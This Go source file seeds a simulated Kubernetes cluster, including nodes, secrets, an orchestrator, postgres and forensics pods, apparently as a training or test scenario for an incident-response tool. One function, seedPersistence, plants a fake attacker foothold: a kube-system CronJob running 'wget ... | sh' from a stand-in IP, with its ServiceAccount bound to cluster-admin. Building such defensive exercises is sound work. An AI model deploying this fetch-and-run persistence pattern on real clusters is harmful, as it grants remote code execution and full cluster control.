package sandbox

import (
	"context"
	"fmt"
	"net/netip"

	"golang.org/x/sync/errgroup"
	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	storagev1 "k8s.io/api/storage/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
)

// Names of the seeded demo platform, from the runbook "LLM-orchestrator
// security incident".
const (
	DemoNamespace       = "llm-orchestrator"
	MonitoringNamespace = "monitoring"
	OrchestratorImage   = "ghcr.io/llm-orchestrator/orchestrator:v0.2.0"
	SnapshotClass       = "csi-snapclass"
	CSIDriver           = "hostpath.csi.k8s.io"

	// fieldManager marks the seed's writes, so that managedFields tell
	// them apart from irctl's own ("irctl").
	fieldManager = "irctl-sandbox"
	// orchestratorHash is the pod-template-hash of the orchestrator's
	// ReplicaSet; fixed so that pod names are the same in every sandbox.
	orchestratorHash = "7b9d5f8c46"
)

// NodeNames are the seeded Node objects. No kubelet runs behind them; the
// sandbox registers a simulated log endpoint as each one's kubelet
// (kubelet.go).
var NodeNames = []string{"node-a", "node-b", "node-c"}

var volumeSnapshotClasses = schema.GroupVersionResource{Group: "snapshot.storage.k8s.io", Version: "v1", Resource: "volumesnapshotclasses"}

var (
	createOpts = metav1.CreateOptions{FieldManager: fieldManager}
	updateOpts = metav1.UpdateOptions{FieldManager: fieldManager}
)

// seedKube creates the demo platform. With no controllers running, every
// object a controller would make (ReplicaSets, pods, the namespace's
// default ServiceAccount) and every status a controller or kubelet would
// write is created here directly.
func seedKube(ctx context.Context, cfg *rest.Config, dbPassword string) error {
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		return err
	}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		return err
	}
	// kube-apiserver holds a create of a custom resource for 2s when its
	// CRD became established less than 2s before, as envtest's just did:
	// create the VolumeSnapshotClass alongside the rest.
	g, ctx := errgroup.WithContext(ctx)
	g.Go(func() error {
		if err := seedSnapshotClass(ctx, dyn); err != nil {
			return fmt.Errorf("seeding VolumeSnapshotClass: %w", err)
		}
		return nil
	})
	steps := []struct {
		what string
		do   func() error
	}{
		{"nodes", func() error { return seedNodes(ctx, cs) }},
		{"namespaces", func() error { return seedNamespaces(ctx, cs) }},
		{"secrets", func() error { return seedSecrets(ctx, cs, dbPassword) }},
		{"orchestrator", func() error { return seedOrchestrator(ctx, cs) }},
		{"postgres", func() error { return seedPostgres(ctx, cs) }},
		{"forensics pod", func() error { return seedForensics(ctx, cs) }},
		{"node-exporter", func() error { return seedNodeExporter(ctx, cs) }},
		{"kube-cleanup persistence", func() error { return seedPersistence(ctx, cs) }},
	}
	g.Go(func() error {
		for _, s := range steps {
			if err := s.do(); err != nil {
				return fmt.Errorf("seeding %s: %w", s.what, err)
			}
		}
		return nil
	})
	return g.Wait()
}

func seedNodes(ctx context.Context, cs kubernetes.Interface) error {
	now := metav1.Now()
	capacity := corev1.ResourceList{
		corev1.ResourceCPU:              resource.MustParse("8"),
		corev1.ResourceMemory:           resource.MustParse("32Gi"),
		corev1.ResourcePods:             resource.MustParse("110"),
		corev1.ResourceEphemeralStorage: resource.MustParse("100Gi"),
	}
	for i, name := range NodeNames {
		node, err := cs.CoreV1().Nodes().Create(ctx, &corev1.Node{
			ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
				"kubernetes.io/hostname": name,
				"kubernetes.io/os":       "linux",
				"kubernetes.io/arch":     "amd64",
			}},
		}, createOpts)
		if err != nil {
			return err
		}
		condition := func(t corev1.NodeConditionType, s corev1.ConditionStatus, reason string) corev1.NodeCondition {
			return corev1.NodeCondition{Type: t, Status: s, Reason: reason, LastHeartbeatTime: now, LastTransitionTime: now}
		}
		node.Status = corev1.NodeStatus{
			Capacity:    capacity,
			Allocatable: capacity,
			Phase:       corev1.NodeRunning,
			Conditions: []corev1.NodeCondition{
				condition(corev1.NodeMemoryPressure, corev1.ConditionFalse, "KubeletHasSufficientMemory"),
				condition(corev1.NodeDiskPressure, corev1.ConditionFalse, "KubeletHasNoDiskPressure"),
				condition(corev1.NodePIDPressure, corev1.ConditionFalse, "KubeletHasSufficientPID"),
				condition(corev1.NodeReady, corev1.ConditionTrue, "KubeletReady"),
			},
			Addresses: []corev1.NodeAddress{
				{Type: corev1.NodeInternalIP, Address: nodeIP(i)},
				{Type: corev1.NodeHostName, Address: name},
			},
			NodeInfo: corev1.NodeSystemInfo{
				KubeletVersion:          "v1.36.3",
				ContainerRuntimeVersion: "containerd://1.7.24",
				KernelVersion:           "6.1.0-28-amd64",
				OSImage:                 "Debian GNU/Linux 12 (bookworm)",
				OperatingSystem:         "linux",
				Architecture:            "amd64",
			},
		}
		if _, err := cs.CoreV1().Nodes().UpdateStatus(ctx, node, updateOpts); err != nil {
			return err
		}
	}
	return nil
}

// nodeIP is the InternalIP of the i-th seeded Node: the address its
// simulated kubelet listens on, the same for all of them.
func nodeIP(int) string { return kubeletAddress }

func seedNamespaces(ctx context.Context, cs kubernetes.Interface) error {
	for _, ns := range []string{DemoNamespace, MonitoringNamespace, metav1.NamespaceSystem} {
		if err := ensureNamespace(ctx, cs, ns); err != nil {
			return err
		}
	}
	accounts := []struct{ ns, name string }{
		{DemoNamespace, "default"},
		{DemoNamespace, "orchestrator"},
		{DemoNamespace, "forensics"},
		{MonitoringNamespace, "default"},
		{metav1.NamespaceSystem, "kube-cleanup"},
	}
	for _, a := range accounts {
		_, err := cs.CoreV1().ServiceAccounts(a.ns).Create(ctx, &corev1.ServiceAccount{
			ObjectMeta: metav1.ObjectMeta{Name: a.name},
		}, createOpts)
		if err != nil && !apierrors.IsAlreadyExists(err) {
			return err
		}
	}
	return nil
}

// ensureNamespace creates ns unless it exists (kube-apiserver makes
// kube-system itself, shortly after it starts).
func ensureNamespace(ctx context.Context, cs kubernetes.Interface, ns string) error {
	_, err := cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, createOpts)
	if apierrors.IsAlreadyExists(err) {
		return nil
	}
	return err
}

func seedSecrets(ctx context.Context, cs kubernetes.Interface, dbPassword string) error {
	secrets := []*corev1.Secret{
		{
			ObjectMeta: metav1.ObjectMeta{Name: "orchestrator-jwt-secret", Labels: map[string]string{"app": "orchestrator"}},
			Type:       corev1.SecretTypeOpaque,
			Data:       map[string][]byte{"secret": []byte(randomHex(32))},
		},
		{
			ObjectMeta: metav1.ObjectMeta{Name: "orchestrator-db", Labels: map[string]string{"app": "orchestrator"}},
			Type:       corev1.SecretTypeOpaque,
			Data:       map[string][]byte{"password": []byte(dbPassword)},
		},
	}
	for _, s := range secrets {
		if _, err := cs.CoreV1().Secrets(DemoNamespace).Create(ctx, s, createOpts); err != nil {
			return err
		}
	}
	return nil
}

func orchestratorPodSpec() corev1.PodSpec {
	secretEnv := func(env, secret, key string) corev1.EnvVar {
		return corev1.EnvVar{Name: env, ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
			LocalObjectReference: corev1.LocalObjectReference{Name: secret}, Key: key,
		}}}
	}
	return corev1.PodSpec{
		ServiceAccountName: "orchestrator",
		// Without a kubelet to confirm termination, a pod deleted with a
		// grace period would stay Terminating forever.
		TerminationGracePeriodSeconds: ptr.To[int64](0),
		Containers: []corev1.Container{{
			Name:  "orchestrator",
			Image: OrchestratorImage,
			Ports: []corev1.ContainerPort{{Name: "http", ContainerPort: 8080, Protocol: corev1.ProtocolTCP}},
			Env: []corev1.EnvVar{
				{Name: "DATABASE_HOST", Value: "postgres." + DemoNamespace + ".svc"},
				secretEnv("DATABASE_PASSWORD", "orchestrator-db", "password"),
				secretEnv("JWT_SECRET", "orchestrator-jwt-secret", "secret"),
			},
		}},
	}
}

func seedOrchestrator(ctx context.Context, cs kubernetes.Interface) error {
	labels := map[string]string{"app": "orchestrator"}
	dep, err := cs.AppsV1().Deployments(DemoNamespace).Create(ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "orchestrator", Labels: labels,
			Annotations: map[string]string{"deployment.kubernetes.io/revision": "1"}},
		Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To[int32](3),
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec:       orchestratorPodSpec(),
			},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	dep.Status = appsv1.DeploymentStatus{
		ObservedGeneration: dep.Generation,
		Replicas:           3, UpdatedReplicas: 3, ReadyReplicas: 3, AvailableReplicas: 3,
		Conditions: []appsv1.DeploymentCondition{{
			Type: appsv1.DeploymentAvailable, Status: corev1.ConditionTrue, Reason: "MinimumReplicasAvailable",
			LastUpdateTime: metav1.Now(), LastTransitionTime: metav1.Now(),
		}},
	}
	if _, err := cs.AppsV1().Deployments(DemoNamespace).UpdateStatus(ctx, dep, updateOpts); err != nil {
		return err
	}

	rsLabels := map[string]string{"app": "orchestrator", "pod-template-hash": orchestratorHash}
	rs, err := cs.AppsV1().ReplicaSets(DemoNamespace).Create(ctx, &appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{
			Name:            "orchestrator-" + orchestratorHash,
			Labels:          rsLabels,
			Annotations:     map[string]string{"deployment.kubernetes.io/revision": "1"},
			OwnerReferences: []metav1.OwnerReference{controllerRef("apps/v1", "Deployment", dep.Name, dep.UID)},
		},
		Spec: appsv1.ReplicaSetSpec{
			Replicas: ptr.To[int32](3),
			Selector: &metav1.LabelSelector{MatchLabels: rsLabels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: rsLabels},
				Spec:       orchestratorPodSpec(),
			},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	rs.Status = appsv1.ReplicaSetStatus{
		ObservedGeneration: rs.Generation,
		Replicas:           3, FullyLabeledReplicas: 3, ReadyReplicas: 3, AvailableReplicas: 3,
	}
	if _, err := cs.AppsV1().ReplicaSets(DemoNamespace).UpdateStatus(ctx, rs, updateOpts); err != nil {
		return err
	}

	for i, suffix := range []string{"x2k9p", "m4q7t", "w8n5z"} {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Name:            rs.Name + "-" + suffix,
				Labels:          rsLabels,
				OwnerReferences: []metav1.OwnerReference{controllerRef("apps/v1", "ReplicaSet", rs.Name, rs.UID)},
			},
			Spec: orchestratorPodSpec(),
		}
		pod.Spec.NodeName = NodeNames[i%len(NodeNames)]
		if err := createRunningPod(ctx, cs, DemoNamespace, pod, podIP(0, i)); err != nil {
			return err
		}
	}

	_, err = cs.CoreV1().Services(DemoNamespace).Create(ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "orchestrator", Labels: labels},
		Spec: corev1.ServiceSpec{
			Selector: labels,
			Ports:    []corev1.ServicePort{{Name: "http", Port: 80, TargetPort: intstr.FromString("http"), Protocol: corev1.ProtocolTCP}},
		},
	}, createOpts)
	if err != nil {
		return err
	}

	_, err = cs.NetworkingV1().NetworkPolicies(DemoNamespace).Create(ctx, &networkingv1.NetworkPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "allow-ingress-orchestrator"},
		Spec: networkingv1.NetworkPolicySpec{
			PodSelector: metav1.LabelSelector{MatchLabels: labels},
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
			Ingress: []networkingv1.NetworkPolicyIngressRule{{
				Ports: []networkingv1.NetworkPolicyPort{{
					Protocol: ptr.To(corev1.ProtocolTCP), Port: ptr.To(intstr.FromInt32(8080)),
				}},
			}},
		},
	}, createOpts)
	return err
}

// seedPostgres creates the in-cluster database the orchestrator uses: a
// StatefulSet whose pod mounts the claim postgres-pvc, bound to a CSI volume
// that the VolumeSnapshotClass's driver could snapshot.
func seedPostgres(ctx context.Context, cs kubernetes.Interface) error {
	const (
		storageClass = "csi-hostpath-sc"
		pvName       = "pv-postgres-data"
		pvcName      = "postgres-pvc"
	)
	size := resource.MustParse("10Gi")
	rwo := []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}

	_, err := cs.StorageV1().StorageClasses().Create(ctx, &storagev1.StorageClass{
		ObjectMeta:        metav1.ObjectMeta{Name: storageClass},
		Provisioner:       CSIDriver,
		ReclaimPolicy:     ptr.To(corev1.PersistentVolumeReclaimDelete),
		VolumeBindingMode: ptr.To(storagev1.VolumeBindingImmediate),
	}, createOpts)
	if err != nil {
		return err
	}
	pv, err := cs.CoreV1().PersistentVolumes().Create(ctx, &corev1.PersistentVolume{
		ObjectMeta: metav1.ObjectMeta{Name: pvName},
		Spec: corev1.PersistentVolumeSpec{
			Capacity:                      corev1.ResourceList{corev1.ResourceStorage: size},
			AccessModes:                   rwo,
			PersistentVolumeReclaimPolicy: corev1.PersistentVolumeReclaimDelete,
			StorageClassName:              storageClass,
			PersistentVolumeSource: corev1.PersistentVolumeSource{CSI: &corev1.CSIPersistentVolumeSource{
				Driver: CSIDriver, VolumeHandle: "vol-postgres-7f3c2a",
			}},
			ClaimRef: &corev1.ObjectReference{Kind: "PersistentVolumeClaim", APIVersion: "v1", Namespace: DemoNamespace, Name: pvcName},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	pv.Status.Phase = corev1.VolumeBound
	if _, err := cs.CoreV1().PersistentVolumes().UpdateStatus(ctx, pv, updateOpts); err != nil {
		return err
	}
	pvc, err := cs.CoreV1().PersistentVolumeClaims(DemoNamespace).Create(ctx, &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Name: pvcName, Labels: map[string]string{"app": "postgres"}},
		Spec: corev1.PersistentVolumeClaimSpec{
			AccessModes:      rwo,
			StorageClassName: ptr.To(storageClass),
			VolumeName:       pvName,
			Resources:        corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: size}},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	pvc.Status = corev1.PersistentVolumeClaimStatus{
		Phase:       corev1.ClaimBound,
		AccessModes: rwo,
		Capacity:    corev1.ResourceList{corev1.ResourceStorage: size},
	}
	if _, err := cs.CoreV1().PersistentVolumeClaims(DemoNamespace).UpdateStatus(ctx, pvc, updateOpts); err != nil {
		return err
	}

	labels := map[string]string{"app": "postgres"}
	spec := corev1.PodSpec{
		TerminationGracePeriodSeconds: ptr.To[int64](0),
		Containers: []corev1.Container{{
			Name:  "postgres",
			Image: "docker.io/library/postgres:15.8",
			Ports: []corev1.ContainerPort{{Name: "postgres", ContainerPort: 5432, Protocol: corev1.ProtocolTCP}},
			Env: []corev1.EnvVar{{Name: "POSTGRES_PASSWORD", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
				LocalObjectReference: corev1.LocalObjectReference{Name: "orchestrator-db"}, Key: "password",
			}}}},
			VolumeMounts: []corev1.VolumeMount{{Name: "data", MountPath: "/var/lib/postgresql/data"}},
		}},
		Volumes: []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{
			PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: pvcName},
		}}},
	}
	_, err = cs.CoreV1().Services(DemoNamespace).Create(ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "postgres", Labels: labels},
		Spec: corev1.ServiceSpec{
			ClusterIP: corev1.ClusterIPNone,
			Selector:  labels,
			Ports:     []corev1.ServicePort{{Name: "postgres", Port: 5432, Protocol: corev1.ProtocolTCP}},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	sts, err := cs.AppsV1().StatefulSets(DemoNamespace).Create(ctx, &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: "postgres", Labels: labels},
		Spec: appsv1.StatefulSetSpec{
			Replicas:    ptr.To[int32](1),
			ServiceName: "postgres",
			Selector:    &metav1.LabelSelector{MatchLabels: labels},
			Template:    corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	sts.Status = appsv1.StatefulSetStatus{
		ObservedGeneration: sts.Generation,
		Replicas:           1, ReadyReplicas: 1, CurrentReplicas: 1, UpdatedReplicas: 1, AvailableReplicas: 1,
	}
	if _, err := cs.AppsV1().StatefulSets(DemoNamespace).UpdateStatus(ctx, sts, updateOpts); err != nil {
		return err
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Name: "postgres-0",
			Labels: map[string]string{
				"app":                                "postgres",
				"statefulset.kubernetes.io/pod-name": "postgres-0",
				"apps.kubernetes.io/pod-index":       "0",
			},
			OwnerReferences: []metav1.OwnerReference{controllerRef("apps/v1", "StatefulSet", sts.Name, sts.UID)},
		},
		Spec: spec,
	}
	pod.Spec.Hostname, pod.Spec.Subdomain = "postgres-0", "postgres"
	pod.Spec.NodeName = NodeNames[2]
	return createRunningPod(ctx, cs, DemoNamespace, pod, podIP(1, 0))
}

func seedForensics(ctx context.Context, cs kubernetes.Interface) error {
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "forensics", Labels: map[string]string{"app": "forensics"}},
		Spec: corev1.PodSpec{
			ServiceAccountName:            "forensics",
			NodeName:                      NodeNames[0],
			TerminationGracePeriodSeconds: ptr.To[int64](0),
			Containers: []corev1.Container{{
				Name:    "toolkit",
				Image:   "ghcr.io/llm-orchestrator/forensics-toolkit:v1.4.0",
				Command: []string{"sleep", "infinity"},
			}},
		},
	}
	return createRunningPod(ctx, cs, DemoNamespace, pod, podIP(2, 0))
}

func seedNodeExporter(ctx context.Context, cs kubernetes.Interface) error {
	labels := map[string]string{"app": "node-exporter"}
	spec := corev1.PodSpec{
		TerminationGracePeriodSeconds: ptr.To[int64](0),
		Containers: []corev1.Container{{
			Name:  "node-exporter",
			Image: "quay.io/prometheus/node-exporter:v1.8.2",
			Ports: []corev1.ContainerPort{{Name: "metrics", ContainerPort: 9100, Protocol: corev1.ProtocolTCP}},
		}},
	}
	ds, err := cs.AppsV1().DaemonSets(MonitoringNamespace).Create(ctx, &appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Name: "node-exporter", Labels: labels},
		Spec: appsv1.DaemonSetSpec{
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	n := int32(len(NodeNames))
	ds.Status = appsv1.DaemonSetStatus{
		ObservedGeneration:     ds.Generation,
		DesiredNumberScheduled: n, CurrentNumberScheduled: n, NumberReady: n, NumberAvailable: n, UpdatedNumberScheduled: n,
	}
	if _, err := cs.AppsV1().DaemonSets(MonitoringNamespace).UpdateStatus(ctx, ds, updateOpts); err != nil {
		return err
	}
	for i, suffix := range []string{"h7kzq", "r2fvx", "t9cm4"} {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Name:            "node-exporter-" + suffix,
				Labels:          labels,
				OwnerReferences: []metav1.OwnerReference{controllerRef("apps/v1", "DaemonSet", ds.Name, ds.UID)},
			},
			Spec: spec,
		}
		pod.Spec.NodeName = NodeNames[i]
		if err := createRunningPod(ctx, cs, MonitoringNamespace, pod, podIP(3, i)); err != nil {
			return err
		}
	}
	return nil
}

// seedPersistence plants the attacker's foothold: a CronJob in kube-system
// whose ServiceAccount is bound to cluster-admin.
func seedPersistence(ctx context.Context, cs kubernetes.Interface) error {
	_, err := cs.BatchV1().CronJobs(metav1.NamespaceSystem).Create(ctx, &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: "kube-cleanup", Labels: map[string]string{"app": "kube-cleanup", "malicious": "true"}},
		Spec: batchv1.CronJobSpec{
			Schedule: "*/10 * * * *",
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				ServiceAccountName: "kube-cleanup",
				RestartPolicy:      corev1.RestartPolicyOnFailure,
				Containers: []corev1.Container{{
					Name:    "cleanup",
					Image:   "docker.io/library/busybox:1.36",
					Command: []string{"/bin/sh", "-c", "wget -qO- http://203.0.113.66/k.sh | sh"},
				}},
			}}}},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	_, err = cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "cleanup-admin"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: metav1.NamespaceSystem, Name: "kube-cleanup"}},
	}, createOpts)
	return err
}

func seedSnapshotClass(ctx context.Context, dyn dynamic.Interface) error {
	class := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "snapshot.storage.k8s.io/v1",
		"kind":       "VolumeSnapshotClass",
		"metadata": map[string]any{
			"name":        SnapshotClass,
			"annotations": map[string]any{"snapshot.storage.kubernetes.io/is-default-class": "true"},
		},
		"driver":         CSIDriver,
		"deletionPolicy": "Delete",
	}}
	_, err := dyn.Resource(volumeSnapshotClasses).Create(ctx, class, createOpts)
	return err
}

func controllerRef(apiVersion, kind, name string, uid types.UID) metav1.OwnerReference {
	return metav1.OwnerReference{
		APIVersion: apiVersion, Kind: kind, Name: name, UID: uid,
		Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true),
	}
}

// podIP returns the i-th address of a /24 per pod group inside
// 10.244.0.0/16, so that seeded pods have distinct, plausible IPs.
func podIP(group, i int) string {
	return netip.AddrFrom4([4]byte{10, 244, byte(group), byte(10 + i)}).String()
}

// createRunningPod creates pod and then reports it Running and Ready through
// the status subresource, as its kubelet would: a create ignores status.
func createRunningPod(ctx context.Context, cs kubernetes.Interface, ns string, pod *corev1.Pod, ip string) error {
	created, err := cs.CoreV1().Pods(ns).Create(ctx, pod, createOpts)
	if err != nil {
		return err
	}
	now := metav1.Now()
	hostIP := nodeIP(0)
	for i, n := range NodeNames {
		if n == created.Spec.NodeName {
			hostIP = nodeIP(i)
		}
	}
	var statuses []corev1.ContainerStatus
	for _, c := range created.Spec.Containers {
		statuses = append(statuses, corev1.ContainerStatus{
			Name:        c.Name,
			Image:       c.Image,
			ContainerID: "containerd://" + randomHex(32),
			Ready:       true,
			Started:     ptr.To(true),
			State:       corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: now}},
		})
	}
	condition := func(t corev1.PodConditionType) corev1.PodCondition {
		return corev1.PodCondition{Type: t, Status: corev1.ConditionTrue, LastTransitionTime: now}
	}
	// Keep what the API server defaulted at create (qosClass), which it
	// does not let a status update change.
	created.Status.Phase = corev1.PodRunning
	created.Status.Conditions = []corev1.PodCondition{
		condition(corev1.PodInitialized), condition(corev1.PodReady),
		condition(corev1.ContainersReady), condition(corev1.PodScheduled),
	}
	created.Status.HostIP, created.Status.HostIPs = hostIP, []corev1.HostIP{{IP: hostIP}}
	created.Status.PodIP, created.Status.PodIPs = ip, []corev1.PodIP{{IP: ip}}
	created.Status.StartTime = &now
	created.Status.ContainerStatuses = statuses
	_, err = cs.CoreV1().Pods(ns).UpdateStatus(ctx, created, updateOpts)
	return err
}

// SeedPods creates n Running pods in namespace (creating it if needed) with
// the given labels, spread over NodeNames, for benchmarks that need a
// realistic number of pods. It issues 2n requests from 32 workers: give it
// a client with raised rate limits (Sandbox.RESTConfig allows 1000 QPS),
// as client-go's default of 5 QPS would take minutes for 2,000 pods.
func SeedPods(ctx context.Context, cs kubernetes.Interface, namespace string, n int, labels map[string]string) error {
	if err := ensureNamespace(ctx, cs, namespace); err != nil {
		return err
	}
	base := labels["app"]
	if base == "" {
		base = "pod"
	}
	// A fresh batch token keeps the names of repeated calls apart.
	batch := randomHex(3)
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(32)
	for i := 0; i < n && ctx.Err() == nil; i++ {
		g.Go(func() error {
			pod := &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("%s-%s-%d", base, batch, i), Labels: labels},
				Spec: corev1.PodSpec{
					NodeName:                      NodeNames[i%len(NodeNames)],
					TerminationGracePeriodSeconds: ptr.To[int64](0),
					Containers:                    []corev1.Container{{Name: "app", Image: OrchestratorImage}},
				},
			}
			return createRunningPod(ctx, cs, namespace, pod, benchPodIP(i))
		})
	}
	return g.Wait()
}

// benchPodIP numbers SeedPods' pods through 10.245.0.0/16, apart from the
// demo pods.
func benchPodIP(i int) string {
	return netip.AddrFrom4([4]byte{10, 245, byte(i / 250), byte(1 + i%250)}).String()
}
